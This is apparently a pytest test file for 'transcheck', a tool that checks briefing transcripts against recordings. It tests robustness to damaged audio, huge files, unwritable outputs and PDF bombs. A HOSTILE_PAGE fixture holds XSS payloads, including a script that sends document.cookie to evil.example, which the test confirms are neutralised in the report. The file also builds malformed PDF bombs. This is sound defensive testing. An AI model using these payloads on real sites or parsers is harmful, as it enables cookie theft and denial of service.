"""Hostile and broken input: each case ends in one `Error:` line and exit 2, or a correct report.

Never a traceback, never a hang, nothing the user had overwritten, nothing from the inputs in the
report except as escaped text. The guarantees in README.md ("What transcheck guarantees") cite
these tests.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys

import numpy as np
import pytest

from helpers import Html, assert_error, run, tone, write_audio
from transcheck.audio import load_audio
from transcheck.errors import AudioError

CONTAINERS = [("wav", "pcm_s16le", 44100), ("flac", "flac", 44100), ("mp3", "libmp3lame", 44100),
              ("ogg", "libopus", 48000), ("m4a", "aac", 44100), ("mp4", "aac", 44100)]


def damaged(data: bytes, how: str) -> bytes:
    rng = np.random.default_rng(7)
    if how == "empty":
        return b""
    if how == "header-only":
        return data[:64]
    if how == "truncated":
        return data[: len(data) * 2 // 5]
    noisy = bytearray(data)  # "corrupt": the middle third overwritten with noise
    a, b = len(data) // 3, 2 * len(data) // 3
    noisy[a:b] = rng.integers(0, 256, b - a, dtype=np.uint8).tobytes()
    return bytes(noisy)


@pytest.mark.parametrize("ext,codec,rate", CONTAINERS)
@pytest.mark.parametrize("how", ["empty", "header-only", "truncated", "corrupt"])
def test_damaged_audio_of_each_container(tmp_path, ext, codec, rate, how):
    good = write_audio(tmp_path / f"good.{ext}", tone(3.0, rate)[None, :], rate, codec,
                       video=(ext == "mp4"))
    bad = tmp_path / f"bad.{ext}"
    bad.write_bytes(damaged(good.read_bytes(), how))
    try:
        audio = load_audio(bad)
    except AudioError as exc:
        assert str(bad) in str(exc) and "\n" not in str(exc)
        return
    assert how in ("truncated", "corrupt") and 0 < audio.duration <= 3.2  # what decodes is used, with a warning


def check(*args, cache):
    return run("check", *args, "--cache-dir", cache)


@pytest.mark.model
def test_music_only(tmp_path, official, session_cache_dir):
    rate = 16000
    t = np.arange(rate * 8) / rate
    chords = sum(np.sin(2 * np.pi * f * t) for f in (220, 277, 330, 440)) * 0.1 * (1 + np.sin(2 * np.pi * 0.5 * t))
    music = write_audio(tmp_path / "music.wav", chords[None, :].astype(np.float32), rate, "pcm_s16le")
    assert_error(check(music, official, "--no-verify", cache=session_cache_dir),
                 f"{music}: ", "no speech found", "check that this is the briefing recording")


@pytest.mark.model
def test_speech_in_another_language(tmp_path, official, session_cache_dir):
    if not shutil.which("espeak-ng"):
        pytest.skip("espeak-ng is not installed")
    wav = tmp_path / "french.wav"
    text = ("Bonjour à tous. La mission des Nations unies au Soudan du Sud publie aujourd'hui son rapport "
            "sur la situation humanitaire dans le nord du pays, où les pluies ont détruit les récoltes.")
    subprocess.run(["espeak-ng", "-v", "fr", "-w", str(wav), text], check=True)
    # refused either way: words heard that are not the briefing's, or (on AMD's oneDNN runtime, where
    # tiny.en hears nothing in it) speech without a word heard
    result = check(wav, official, "--no-verify", cache=session_cache_dir)
    assert_error(result, "same briefing" if "same briefing" in result.stderr else "heard no words in")


@pytest.mark.model
def test_transcript_of_another_briefing_by_the_same_speaker(tmp_path, recording, session_cache_dir):
    other = tmp_path / "other.txt"
    other.write_text(
        "SPOKESPERSON: Good afternoon. The United Nations Mission in South Sudan condemns the attack on a "
        "humanitarian convoy near Bentiu. The mission has sent a patrol to the area, and the humanitarian "
        "coordinator has asked the parties to allow safe access. QUESTION: Thank you. Is the mission "
        "investigating, and when will the findings be published? SPOKESPERSON: The investigation has started. "
        "The findings will be shared with the authorities, and we will brief you when it is completed.",
        encoding="utf-8")
    assert_error(check(recording, other, "--no-verify", cache=session_cache_dir), "same briefing")


def test_fifty_megabyte_transcript(tmp_path, recording):
    big = tmp_path / "big.txt"
    big.write_text("SPOKESPERSON: " + "the mission continues its work in the region. " * 1_100_000)
    assert big.stat().st_size > 50_000_000
    assert_error(run("check", recording, big, "--no-cache"), "far more than one briefing")


def test_utf16_and_windows_1252_transcripts_read(tmp_path, sample_dir):
    from transcheck.sources import read_official

    text = (sample_dir / "official.txt").read_text(encoding="utf-8").replace("--", "\u2013")
    for encoding in ("utf-16", "cp1252"):
        path = tmp_path / f"official-{encoding}.txt"
        path.write_bytes(text.encode(encoding))
        assert read_official(path).text == text


HOSTILE_PAGE = """<!DOCTYPE html><html><head><title>Briefing</title>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
<body onload="alert(1)"><nav><a href="javascript:alert(2)">Home</a></nav>
<iframe src="https://evil.example/frame"></iframe>
<main><h1>Press conference <img src=x onerror="alert(3)"></h1>
<p><strong>QUESTION:</strong> Thank you. [inaudible], Nordic Radio. My question is about the allegations of
sexual exploitation and abuse. What happens to these cases, and will you publish the names of those accused?
&lt;script&gt;alert(4)&lt;/script&gt; <a href="javascript:alert(5)" onclick="alert(6)">click</a></p>
<p><strong>SPOKESPERSON:</strong> When it is an allegation, clearly, it remains an allegation, and the
disposition of the case, if the case goes further, will be in the hands of -- if it is a person who is
related to the UN and an international, there are disciplinary measures. <svg onload="alert(7)"></svg>
Those allegations are made clear on the website and we can provide that to you, but the names are not.
We have received 9 allegations this year.<object data="https://evil.example/x.swf"></object></p></main>
<footer><iframe srcdoc="<script>alert(8)</script>"></iframe></footer></body></html>"""


@pytest.mark.model
def test_hostile_web_page_stays_text(tmp_path, recording, session_cache_dir):
    page = tmp_path / "official.html"
    page.write_text(HOSTILE_PAGE, encoding="utf-8")
    out, js = tmp_path / "r.html", tmp_path / "r.json"
    result = check(recording, page, "-o", out, "--json", js, "--title", "<script>alert(9)</script>",
                   cache=session_cache_dir)
    assert result.exit_code == 0, result.output
    report = out.read_text(encoding="utf-8")
    audit = Html(report)
    tags = {tag for tag, _ in audit.elements}
    handlers = [(tag, name) for tag, attrs in audit.elements for name in attrs if name.startswith("on")]
    urls = [value for _, attrs in audit.elements for name, value in attrs.items()
            if name in ("href", "src", "action", "formaction", "xlink:href") and value]
    assert len(audit.scripts()) == 1  # transcheck's own, allowed by hash
    assert not tags & {"iframe", "frame", "object", "embed", "img", "base", "form"}  # (the svg is our timeline)
    assert handlers == []
    assert all(not u.lower().lstrip().startswith(("javascript:", "http:", "https:", "//")) for u in urls)
    assert "evil.example" not in " ".join(urls)
    assert "&lt;script&gt;alert(9)&lt;/script&gt;" in report  # the title, escaped
    assert "Content-Security-Policy" in report and "default-src &#39;none&#39;" in report


def test_caption_file_with_overlapping_and_negative_times(tmp_path):
    from transcheck.sources import read_official

    vtt = tmp_path / "official.vtt"
    vtt.write_text("WEBVTT\n\n00:00:05.000 --> 00:00:02.000\nSPOKESPERSON: When it is an allegation\n\n"
                   "00:00:01.000 --> 00:00:09.000\nclearly it remains an allegation\n\n"
                   "-00:00:01.000 --> 00:00:03.000\nand the disposition of the case\n", encoding="utf-8")
    official = read_official(vtt)
    assert official.text.endswith("and the disposition of the case")  # no words lost
    assert all(0 <= c.t0 <= c.t1 for c in official.cues)


@pytest.mark.skipif(not os.path.isdir("/proc"), reason="needs /proc as an unwritable place")
def test_unwritable_output(recording, official):
    # refused before the recording is decoded or heard: the output place is tried first
    assert_error(run("check", recording, official, "-o", "/proc/transcheck-report.html", "--no-cache"),
                 "/proc/transcheck-report.html: cannot write here", "choose another output path")


@pytest.mark.model
def test_runs_without_network(tmp_path, recording, official):
    """The whole check, model included, in a process with no network at all."""
    probe = subprocess.run(["unshare", "-n", "true"], capture_output=True) if shutil.which("unshare") else None
    if probe is None or probe.returncode != 0:
        pytest.skip("unshare -n is not permitted here")
    out = tmp_path / "r.json"
    proc = subprocess.run(["unshare", "-n", sys.executable, "-m", "transcheck.cli", "check", str(recording),
                           str(official), "--json", str(out), "--no-cache", "-q"],
                          capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr
    assert out.stat().st_size > 0


def _raw_pdf(objects: list[bytes]) -> bytes:
    """A minimal PDF file from raw object bodies (object 1 is the catalog)."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def _pdf_bomb(kind: str) -> bytes:
    content = b"BT /F1 12 Tf 72 712 Td (SPOKESPERSON: Good afternoon.) Tj ET"
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>")
    stream = b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    if kind == "huge page tree":
        kids = b"<< /Type /Pages /Kids [" + b"3 0 R " * 100_000 + b"] /Count 100000 >>"
        return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", kids, page, stream, font])
    if kind == "deeply nested":
        return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R /Deep 6 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                         page, stream, font, b"[" * 200_000 + b"]" * 200_000])
    return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                     page, stream, font])  # a page tree that contains itself


@pytest.mark.parametrize("kind", ["huge page tree", "deeply nested", "self-referencing page tree"])
def test_pdf_bombs_end_quickly(tmp_path, kind):
    import time

    from transcheck.errors import OfficialTextError
    from transcheck.sources import read_official

    path = tmp_path / "bomb.pdf"
    path.write_bytes(_pdf_bomb(kind))
    start = time.perf_counter()
    try:
        official = read_official(path)
    except OfficialTextError as exc:
        assert str(path) in str(exc)
    else:
        assert "Good afternoon" in official.text and len(official.text) < 10_000
    assert time.perf_counter() - start < 60
